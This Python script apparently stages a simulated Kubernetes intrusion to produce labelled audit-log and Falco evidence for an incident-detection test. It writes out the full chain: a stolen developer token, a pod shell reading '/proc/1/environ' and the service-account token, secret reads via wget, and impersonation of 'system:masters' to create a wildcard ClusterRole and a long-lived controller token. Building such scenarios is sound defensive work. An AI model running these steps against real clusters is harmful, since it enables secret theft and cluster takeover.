"""A developer's token is stolen: exec into a pod, that pod's token, secrets, impersonation, rights over the cluster.

Owns: the story of `attack-ledger` and which of its lines are evidence.
Leaves to others: the cluster (recording.py) and what was deployed (manifests/attack-ledger).
"""
import time
from secrets import randbelow

from falco import Process
from recording import incident

USERS = [("deploy-token", "ledger-deploy", "pipelines"), ("mara-token", "mara.lindqvist", "ledger-developers")]
NODES = ["vault-a", "vault-b"]
DEPLOY, OFFICE, THIEF = "127.0.0.43", "127.0.0.61", "127.0.0.199"
KUBECTL_OFFICE = "kubectl/v1.30.4 (darwin/arm64) kubernetes/a51b3b7"
KUBECTL_THIEF = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
BOOKS = "/api/v1/namespaces/bookkeeping"
RBAC = "/apis/rbac.authorization.k8s.io/v1"
RELEASE, ACCESS = "manifests/ledger.yaml", "manifests/team-access.yaml"
GRANT = "ledger-archive-reader"
AS_ADMIN = {"Impersonate_User": "kubernetes-admin", "Impersonate_Group": "system:masters"}


def story(stage):
    stage.prepare(stage.kubectl("setup-token", "127.0.0.1"), "manifests/platform.yaml", ACCESS)
    stage.secrets("bookkeeping", "journal-database", "bank-file-signing")
    stage.secrets("tax-filing", "authority-certificate")
    time.sleep(2)
    stage.begin()
    stage.kubectl("deploy-token", DEPLOY).apply(stage.manifest(RELEASE))
    pod, = stage.nodes.wait_running("bookkeeping", "postings-")
    statements, = stage.nodes.wait_running("bookkeeping", "statements-")
    mara = stage.client("mara-token", OFFICE, KUBECTL_OFFICE)
    office = _read_logs(mara, statements)
    time.sleep(2)
    thief = mara.at(THIEF, KUBECTL_THIEF)
    probes = _probe(thief)
    session, inside, token, taken = _enter(stage, thief, pod)
    office += _read_logs(mara, statements)
    outside = stage.client(token, THIEF, KUBECTL_THIEF)
    grants = _become_admin(outside)
    time.sleep(2)  # the API server learns of the binding
    harvest = [outside.ask("GET", "/api/v1/secrets?limit=500", expect=200)]

    def truth(labels):
        return {"incidents": [incident(
            "ledger-stolen-token",
            [("User", None, "mara.lindqvist"), ("Pod", "bookkeeping", pod.name),
             ("ServiceAccount", "bookkeeping", "postings"), ("Secret", "bookkeeping", "journal-database"),
             ("ClusterRole", None, GRANT), ("ClusterRoleBinding", None, GRANT)],
            [labels.cause(ACCESS, "for the migration in March", "rules[2].resources[0]"),
             labels.cause(RELEASE, "keys rotate, so they are read at run time", "rules[0].resources[0]"),
             labels.cause(RELEASE, "approvals are carried out in the approver's name", "rules[0].verbs[0]")],
            [*labels.audit(*probes, session, *taken, *grants, *harvest), *labels.falco(*inside),
             *labels.admission(lambda request: request["name"] == GRANT)],
            [*labels.audit(session, stage="ResponseStarted"), *labels.release("ledger-deploy", "postings")],
        )], "decoys": [place | {"why": "the real Mara, from the office, in another pod"}
                       for place in labels.audit(*office)]}

    return truth


def _read_logs(mara, pod):
    return [mara.ask("GET", f"{BOOKS}/pods?limit=500", expect=200),
            mara.ask("GET", f"{BOOKS}/pods/{pod.name}/log?container=statements&tailLines=50", expect=200)]


def _probe(thief):
    """What does this token open? Some doors are shut."""
    review = {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "bookkeeping"}}
    asked = [thief.ask("POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", review, expect=201)]
    for path, status in (("/api/v1/namespaces?limit=500", 403), (f"{BOOKS}/secrets?limit=500", 403),
                         ("/api/v1/nodes?limit=500", 403), (f"{BOOKS}/pods?limit=500", 200)):
        time.sleep(0.9)
        asked.append(thief.ask("GET", path, expect=status))
    time.sleep(1)
    return asked


def _enter(stage, thief, pod):
    """A shell in the pod; its environment, its token, and the secrets that the token opens."""
    falco, lines = stage.falco, []
    user = {"user": ("postings", 30410), "terminal": 34816}
    with thief.exec("bookkeeping", pod.name, "postings", "sh", websocket=True) as session:
        time.sleep(0.4)
        lines.append(falco.alert("Terminal shell in container", Process(
            pod, "sh", "runc", "/bin/busybox", "containerd-shim", **user)))
        time.sleep(1.4)
        lines.append(falco.alert("Read environment variable from /proc files", Process(
            pod, "cat /proc/1/environ", "sh", "/bin/busybox", "runc", **user), fd__name="/proc/1/environ"))
        time.sleep(1.2)
        path = "/run/secrets/kubernetes.io/serviceaccount/token"
        lines.append(falco.alert("Read sensitive file untrusted", Process(
            pod, f"cat /var{path}", "sh", "/bin/busybox", "runc", **user), fd__name=path))
        time.sleep(1.1)
        lines.append(falco.contact_api_server(Process(
            pod, "wget -qO- https://10.96.0.1/api/v1/namespaces/bookkeeping/secrets", "sh", "/bin/busybox", "runc", **user),
            30000 + randbelow(30000)))
        inside = stage.client(pod.token, pod.address, "Wget")
        taken = [inside.ask("GET", f"{BOOKS}/secrets", expect=200)]
        for name in ("journal-database", "bank-file-signing"):
            time.sleep(0.8)
            taken.append(inside.ask("GET", f"{BOOKS}/secrets/{name}", expect=200))
        time.sleep(0.6)
    return session, lines, pod.token, taken


def _become_admin(outside):
    """The pod's token, now used from elsewhere, may act as others: as an administrator it grants itself everything."""
    time.sleep(1.5)
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": GRANT},
            "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": GRANT},
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": GRANT},
               "subjects": [{"kind": "ServiceAccount", "name": "postings", "namespace": "bookkeeping"}]}
    token = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"expirationSeconds": 2592000}}
    done = [outside.ask("POST", f"{RBAC}/clusterroles", role, expect=201, **AS_ADMIN)]
    time.sleep(0.7)
    done.append(outside.ask("POST", f"{RBAC}/clusterrolebindings", binding, expect=201, **AS_ADMIN))
    time.sleep(1)
    done.append(outside.ask("POST", "/api/v1/namespaces/kube-system/serviceaccounts/deployment-controller/token", token,
                            expect=201, **AS_ADMIN))
    return done
